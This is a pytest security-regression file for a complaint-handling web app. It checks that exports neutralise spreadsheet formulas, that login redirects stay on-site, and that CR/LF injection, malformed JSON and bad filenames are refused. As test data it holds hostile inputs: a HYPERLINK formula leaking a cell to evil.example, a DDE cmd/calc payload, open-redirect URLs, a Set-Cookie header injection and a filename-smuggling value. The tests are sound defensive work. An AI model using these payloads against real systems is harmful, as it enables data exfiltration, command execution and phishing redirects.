"""Security hardening (issue 19, points 2, 5 and 8): exported spreadsheets keep text as text, `next` never
leaves the site, and malformed input answers a clear error and changes nothing."""
import io
import json

import pytest
from openpyxl import load_workbook

from engine import files
from engine.audit import process_mining
from engine.errors import InvalidInput
from engine.people import credentials
from engine.timing.clock import system_now
from handlers.registers import ledgers
from tests.conftest import at
from tests.driver import snapshot
from tests.integration.test_complaint import INTAKE
from tests.web.conftest import csrf_of, sign_in

FORMULAS = {"respondent": '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
            "subject": "@SUM(1+1)*cmd|' /C calc'!A0", "complainant": "+86 王女士", "enterprise": "-2+3",
            "hotline_ref": "\t=1+1", "content": "\r=1+1 具体内容"}


@pytest.fixture(autouse=True)
def clock(monkeypatch):
    monkeypatch.setenv("ZHUNRU_NOW", "2026-03-02T09:00:00+08:00")


@pytest.fixture
def token(sessions):
    def issue(username: str) -> dict[str, str]:
        with sessions() as s, s.begin():
            return {"Authorization": f"Bearer {credentials.issue_token(s, username, at('2026-03-01 08:00'))}"}
    return issue


def _cells(content: bytes) -> list:
    return [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]


def test_exported_ledgers_keep_text_from_outside_as_text(app, client, token, sessions):
    pushed = client.post("/api/v1/complaints", headers=token("hotline_12345"), json=dict(INTAKE, **FORMULAS))
    assert pushed.status_code == 201, pushed.json
    sign_in(client, "admin")
    download = client.get("/ledgers/complaint.xlsx")
    assert download.status_code == 200
    cells = _cells(download.data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    written = {c.value: c for c in cells if isinstance(c.value, str)}
    title = f"{FORMULAS['respondent']}：{FORMULAS['subject']}"
    assert title in written and written[title].data_type == "s" and written[title].quotePrefix
    # The export a handler attaches to a case is the same workbook; any text from outside stays text.
    rows = [dict(r, source=v, title=v, person=v) for r in [ledgers.items(sessions(), ledger="complaint")[0]]
            for v in [*FORMULAS.values(), "=1+1", "-", "@", "a\x0bb"]]
    cells = _cells(ledgers.workbook("complaint", rows, {}, system_now()))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert "=1+1" in [c.value for c in cells] and "a\ufffdb" in [c.value for c in cells]


def test_exported_event_logs_keep_text_from_outside_as_text():
    entry = {"case_id": "c1", "activity": "=HYPERLINK(\"http://evil.example\")", "lifecycle": "complete",
             "timestamp": "2026-03-02T09:00:00+08:00", "resource": "@admin", "organisation": "+city",
             "process_id": "-p", "version": 1}
    text = process_mining.to_csv([entry]).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",'@admin,'+city,'-p,1" in text


@pytest.mark.parametrize("target", ["/%09/evil.example", "//evil.example", "/\\evil.example", "/%5Cevil.example",
                                    "https://evil.example/", "javascript:alert(1)", "/%09%09/evil.example/x"])
def test_next_never_leaves_the_site(client, target):
    token = csrf_of(client.get("/login").get_data(as_text=True))
    answer = client.post(f"/login?next={target}", data={"username": "city_ndrc", "password": "zhunru-demo",
                                                         "csrf_token": token})
    assert answer.status_code in (302, 400)
    if answer.status_code == 302:
        assert answer.headers["Location"] == "/tasks"


def test_next_keeps_a_path_on_this_site_and_refuses_cr_lf(client, sessions):
    def login(target: str):
        token = csrf_of(client.get("/login").get_data(as_text=True))
        return client.post(f"/login?next={target}", data={"username": "city_ndrc", "password": "zhunru-demo",
                                                           "csrf_token": token})

    answer = login("/cases%3Fstatus%3Drunning")
    assert answer.status_code == 302 and answer.headers["Location"] == "/cases?status=running"
    before = snapshot(sessions)
    for target in ("/tasks%0d%0aSet-Cookie:%20x=1", "/%0a/evil.example"):
        refused = login(target)
        assert refused.status_code == 400 and "换行或回车" in refused.get_data(as_text=True)
    token = csrf_of(client.get("/tasks").get_data(as_text=True))
    for target in ("/tasks\r\nSet-Cookie: x=1", "/\t/evil.example"):
        refused = client.post("/language/en", data={"next": target, "csrf_token": token})
        assert refused.status_code == 400 and "next" in refused.get_data(as_text=True)
    assert snapshot(sessions) == before


def _body(data_text: str) -> str:
    return '{"process_id": "clue_0137", "data": {"summary": ' + data_text + "}}"


@pytest.mark.parametrize("body,words", [
    (_body("9" * 5000), "整数位数过多"),
    (_body(str(10**30)), "整数超出范围"),
    (_body('"\\ud800 alone"'), "代理项"),
    ('{"process_id": "clue_0137", "data": {"\\udc00": 1}}', "代理项"),
    (_body("[" * 5000 + "]" * 5000), "嵌套过深"),
    (_body("[" * 40 + "]" * 40), "嵌套过深"),
    (_body('{"a": ' * 40 + "1" + "}" * 40), "嵌套过深"),
])
def test_unreadable_api_bodies_are_clear_errors_and_change_nothing(client, token, sessions, body, words):
    before = snapshot(sessions)
    answer = client.post("/api/v1/instances", headers={**token("city_ndrc"), "Content-Type": "application/json"},
                         data=body)
    assert answer.status_code == 400 and words in answer.json["message"], answer.json
    assert snapshot(sessions) == before


def test_unreadable_form_submissions_are_clear_errors(client, sessions):
    sign_in(client, "county_ndrc_clerk")
    token = csrf_of(client.get("/start/complaint").get_data(as_text=True))
    before = snapshot(sessions)
    for data, words in (('{"summary": "\\ud800"}', "代理项"), ('{"a": ' + "[" * 3000 + "]" * 3000 + "}", "嵌套过深"),
                        ('{"a": ' + "1" * 4400 + "}", "整数位数过多")):
        answer = client.post("/start/complaint", data={"data": data, "csrf_token": token},
                             headers={"Accept": "application/json"})
        assert answer.status_code == 400 and words in answer.json["message"]
    assert snapshot(sessions) == before


def test_cr_lf_in_parameters_and_out_of_range_ids_are_clear_errors(client, token, sessions):
    api = token("city_ndrc")
    for url in ("/api/v1/tasks?q=a%0d%0ab", "/api/v1/instances/a%0d%0aX-Injected:%201"):
        answer = client.get(url, headers=api)
        assert answer.status_code == 400 and "换行或回车" in answer.json["message"]
    for url in ("/public/notices/99999999999999999999", "/public/notices/" + "9" * 5000, "/public/notices/2147483648"):
        assert client.get(url).status_code == 404
    sign_in(client, "city_ndrc")
    for url in ("/archive?year=99999999999999999999", "/archive?year=" + "9" * 5000, "/archive?year=²⁰²⁶"):
        answer = client.get(url)
        assert answer.status_code == 400 and "年份" in answer.get_data(as_text=True)
    assert client.get("/archive?year=2026").status_code == 200
    for url in ("/cases?page=99999999999999999999", "/tasks?page=" + "9" * 5000, "/cases?page=-3"):
        assert client.get(url).status_code == 200
    assert client.get("/processes/clue_0137/v99999999999999999999.bpmn").status_code == 404


def test_downloads_named_after_non_ascii_filters_are_sent(client, live_server):
    import urllib.request

    sign_in(client, "city_auditor")
    for process in ("投诉", "a\u2028b", "x\"; filename=evil.exe"):
        answer = client.get("/audit/export.csv", query_string={"process": process})
        assert answer.status_code == 200
        disposition = answer.headers["Content-Disposition"]
        disposition.encode("latin-1")  # a header the server can send
        assert disposition.startswith('attachment; filename="zhunru-') and "filename*=UTF-8''zhunru-" in disposition
    # Through a real server: the connection answers instead of hanging up.
    cookie = client.get_cookie("session").value
    request = urllib.request.Request(f"{live_server}/audit/export.xes?process=%E6%8A%95%E8%AF%89",
                                     headers={"Cookie": f"session={cookie}"})
    with urllib.request.urlopen(request, timeout=10) as answer:
        assert answer.status == 200 and "%E6%8A%95%E8%AF%89" in answer.headers["Content-Disposition"]


def test_uploaded_file_names_are_checked(client, token, sessions):
    api = token("city_ndrc")
    before = snapshot(sessions)
    for name, words in (("a\x00b.pdf", "控制字符"), ("x" * 400 + ".pdf", "过长")):
        answer = client.post("/api/v1/files", headers=api,
                             data={"file": (io.BytesIO(b"%PDF-1.4 evidence"), name)})
        assert answer.status_code in (400, 422) and words in json.dumps(answer.json, ensure_ascii=False), answer.json
    assert snapshot(sessions) == before
    ok = client.post("/api/v1/files", headers=api, data={"file": (io.BytesIO(b"%PDF-1.4"), "整改报告.pdf")})
    assert ok.status_code == 201
    with sessions() as s:  # a name a multipart header cannot carry, from another way in
        for name in ("a\r\nb.pdf", "a\udc80.pdf", "a\x1b[31m.pdf"):
            with pytest.raises(InvalidInput, match="文件名"):
                files.store(s, filename=name, content=b"%PDF-1.4", actor="city_ndrc", now=system_now())
